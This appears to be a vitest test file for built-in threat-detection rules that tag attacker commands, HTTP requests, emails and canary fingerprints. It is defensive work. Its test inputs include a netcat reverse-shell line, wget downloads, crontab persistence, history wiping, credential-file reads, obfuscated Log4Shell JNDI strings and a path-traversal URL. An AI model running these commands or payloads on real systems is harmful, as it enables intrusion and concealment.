import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  createRuleSet,
  loadAttackCatalogue,
  loadBuiltinPack,
  packBuiltinRules,
  readBuiltinSources,
  runExamples,
} from '../../../../packages/plugins/src/ttp/index.ts';
import { builtinRules, command, event, tagsOf } from './events.ts';

/** What the tags on a list of harmless lines may come to. */
const HARMLESS_SHARE = 0.03;

describe('the built-in rules', () => {
  const catalogue = loadAttackCatalogue();
  const { rules, problems, data } = readBuiltinSources(catalogue);

  it('load without a message', () => {
    expect(problems).toEqual([]);
  });

  it('are R0001 to R0059 and many more, each id once', () => {
    const ids = rules.map((rule) => rule.rule_id);
    for (let number = 1; number <= 59; number += 1) {
      expect(ids).toContain(`R${String(number).padStart(4, '0')}`);
    }
    expect(ids.filter((id) => id >= 'R0100').length).toBeGreaterThan(200);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('have three examples that match and three near-misses each, and all come out so', () => {
    const few = rules.filter(
      ({ tests }) => (tests?.match.length ?? 0) < 3 || (tests?.no_match.length ?? 0) < 3,
    );
    expect(few.map((rule) => rule.rule_id)).toEqual([]);
    const report = runExamples(rules, data);
    expect(report.failures).toEqual([]);
    expect(report.untested).toEqual([]);
    expect(report.run).toBeGreaterThan(1800);
  });

  it('can all fire', () => {
    const fired = new Set<string>();
    for (const rule of rules) {
      const ruleSet = createRuleSet({ rules: [rule], data, checked: true });
      const [kind = 'command'] = rule.applies_to;
      for (const example of rule.tests?.match ?? []) {
        const payload =
          typeof example === 'string'
            ? { command_text: example, raw_url: example, payload_text: example }
            : example;
        if (ruleSet.lift(event(kind, payload)).tags.length > 0) fired.add(rule.rule_id);
      }
    }
    const silent = rules.filter((rule) => !fired.has(rule.rule_id)).map((rule) => rule.rule_id);
    expect(silent).toEqual(['R0058']);
  });

  it('give R0054, R0055 and R0057 version 2, the other old rules version 1', () => {
    const versions = rules
      .filter((rule) => rule.rule_id <= 'R0059' && rule.rule_version !== 1)
      .map((rule) => [rule.rule_id, rule.rule_version]);
    expect(versions).toEqual([
      ['R0054', 2],
      ['R0055', 2],
      ['R0057', 2],
    ]);
  });

  it('are shipped as they stand in their files', () => {
    const { text, failures } = packBuiltinRules();
    const shipped = new URL('../../../../packages/plugins/data/ttp/pack.json', import.meta.url);
    expect(failures).toEqual([]);
    expect(readFileSync(shipped, 'utf8') === text, 'run `npm run rules:pack`').toBe(true);
    expect(loadBuiltinPack().rules.length).toBe(rules.length);
  });

  it('leave lines alone that mean nothing', () => {
    const list = new URL('../../../fixtures/ttp/harmless.txt', import.meta.url);
    const lines = readFileSync(list, 'utf8')
      .split('\n')
      .filter((line) => line !== '' && !line.startsWith('#'));
    const tagged = lines.filter((line) => tagsOf(line).length > 0);
    expect(lines.length).toBeGreaterThanOrEqual(200);
    expect(tagged.length / lines.length).toBeLessThanOrEqual(HARMLESS_SHARE);
  });
});

describe('what the rules of 0.1 missed', () => {
  it.each([
    ['useradd -m -s /bin/bash bob', 'R0024'],
    ['lsb_release -a', 'R0018'],
    ['uname', 'R0018'],
    ["php -r 'x'", 'R0011'],
    ['python3.11 -c x', 'R0011'],
    ['nc 203.0.113.5 9001 -e /bin/sh', 'R0010'],
    ['wget 1.2.3.4/x', 'R0012'],
    ['scp root@h:/x .', 'R0012'],
    ['tftp -g -r x h', 'R0012'],
    [' whoami', 'R0019'],
    ['cd /; id', 'R0019'],
    ['ip r', 'R0020'],
    ['netstat', 'R0021'],
    ['(crontab -l; echo x) | crontab -', 'R0025'],
    ['echo x >> /etc/crontab', 'R0025'],
    ['rm ~/.bash_history', 'R0028'],
    ['HISTFILE=/dev/null', 'R0028'],
    ['set +o history', 'R0028'],
    ['find / -perm /u=s', 'R0015'],
    ['find / -perm -6000', 'R0015'],
    ['sudo -u root -i', 'R0029'],
    ['getent passwd', 'R0013'],
    ['cat</etc/passwd', 'R0013'],
  ])('is found: %s', (text, rule) => {
    expect(tagsOf(text).map((tag) => tag.split(' ')[0])).toContain(rule);
  });

  it.each([
    ['apt install nmap', 'R0017'],
    ['man nmap', 'R0017'],
    ['which nmap', 'R0017'],
    ['bash -invalid', 'R0010'],
    ['cat /etc/passwd.bak', 'R0013'],
    ['echo cat /etc/shadow', 'R0014'],
  ])('and what they found wrongly is not: %s', (text, rule) => {
    expect(tagsOf(text).map((tag) => tag.split(' ')[0])).not.toContain(rule);
  });

  it('finds JNDI in nests, encodings and headers, and one step up into a known file', () => {
    const rules = (payload: Parameters<typeof event>[1]) =>
      builtinRules()
        .lift(event('http_request', payload))
        .tags.map((tag) => tag.ruleId);
    expect(rules({ raw_url: '/?x=${${lower:j}ndi:${::-l}dap://e}' })).toContain('R0008');
    expect(rules({ raw_url: '/%2524%257Bjndi%3Aldap%3A%2F%2Fe%257D' })).toContain('R0008');
    expect(rules({ raw_url: '/', headers: { 'X-A': '${jndi:dns://e}' } })).toContain('R0008');
    expect(rules({ raw_url: '/x/../etc/passwd' })).toContain('R0009');
    expect(rules({ raw_url: '/x/../style.css' })).not.toContain('R0009');
  });

  it('takes a score for what it can be', () => {
    const tags = builtinRules().lift(
      event('intel', { abuseipdb_score: 400, abuseipdb_categories: [18] }),
    ).tags;
    expect(tags.map((tag) => tag.confidence)).toEqual([0.7]);
  });

  it('tags a ransom note in a mail, and its evidence tells nothing of the text', () => {
    const wallet = '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa';
    const mail = event('email', { body_text: `send bitcoin to ${wallet}`, rcpt_count: 3 });
    const [tag] = builtinRules().lift(mail).tags;
    expect(tag?.ruleId).toBe('R0033');
    expect(tag?.evidence).toEqual({ matched_keywords: ['bitcoin'], rcpt_count: 3 });
  });

  it('finds base64 that was wrapped for a mail', () => {
    const wrapped = `${'QUJD'.repeat(19)}\r\n`.repeat(80);
    const tags = builtinRules().lift(event('email', { body_text: `x\r\n${wrapped}` })).tags;
    expect(tags.map((tag) => tag.ruleId)).toEqual(['R0048', 'R0048']);
  });

  it('raises what tags are worth by a verdict, without a tag', () => {
    const rules = builtinRules();
    expect(rules.lift(event('intel', { aggregate_verdict: 'malicious' })).tags).toEqual([]);
    expect(rules.confidenceRaise({ aggregate_verdict: 'malicious' })).toBe(0.05);
    expect(rules.confidenceRaise({ aggregate_verdict: 'benign' })).toBe(0);
  });
});

describe('a tag of a command', () => {
  it('says which part matched, as offsets', () => {
    const text = 'cd /tmp; w"g"et http://h/x -O y; ls';
    const [tag] = builtinRules()
      .lift(command(text))
      .tags.filter(({ ruleId }) => ruleId === 'R0012');
    expect(tag?.spans).toEqual([{ start: 9, end: 31 }]);
    expect(tag?.evidence).toMatchObject({ matched: 'w"g"et http://h/x -O y', spans: [[9, 31]] });
  });

  it('carries who typed it and where', () => {
    const context = { uid: 0, user: 'root', src: '203.0.113.5', pwd: '/root', other: 'x' };
    const [tag] = builtinRules().lift(command('whoami', context)).tags;
    expect(tag?.evidence).toMatchObject({ uid: 0, user: 'root', src: '203.0.113.5', pwd: '/root' });
    expect(tag?.evidence).not.toHaveProperty('other');
  });

  it('resolves what is typed against the folder that it was typed in', () => {
    const rules = builtinRules();
    const ids = (pwd: string) =>
      rules.lift(command('cat shadow', { pwd })).tags.map((tag) => tag.ruleId);
    expect(ids('/etc')).toContain('R0014');
    expect(ids('/home/me')).not.toContain('R0014');
  });

  it('needs an anchor', () => {
    const nobody = { attacker_uuid: null, identity_uuid: null };
    const rules = builtinRules();
    expect(rules.lift({ ...command('whoami'), ...nobody }).tags).toEqual([]);
    expect(rules.lift({ ...command('whoami'), ...nobody, identity_uuid: 'i' }).tags.length).toBe(1);
  });

  it.each([5, null, ['whoami'], { a: 1 }])('comes from a text only: %j', (value) => {
    expect(builtinRules().lift(event('command', { command_text: value })).tags).toEqual([]);
  });
});

describe('the evidence of a canary', () => {
  it('is the metric, and the signature where it is a text', () => {
    const evidence = (payload: Parameters<typeof event>[1]) =>
      builtinRules()
        .lift(event('canary_fingerprint', { ...payload, ip: '203.0.113.5', cookie: 'x' }))
        .tags.map((tag) => tag.evidence)[0];
    expect(evidence({ navigator_webdriver: true })).toEqual({ metric: 'navigator_webdriver' });
    expect(evidence({ matched_tool: 'selenium' })).toEqual({
      metric: 'matched_tool',
      matched_signature: 'selenium',
    });
  });
});
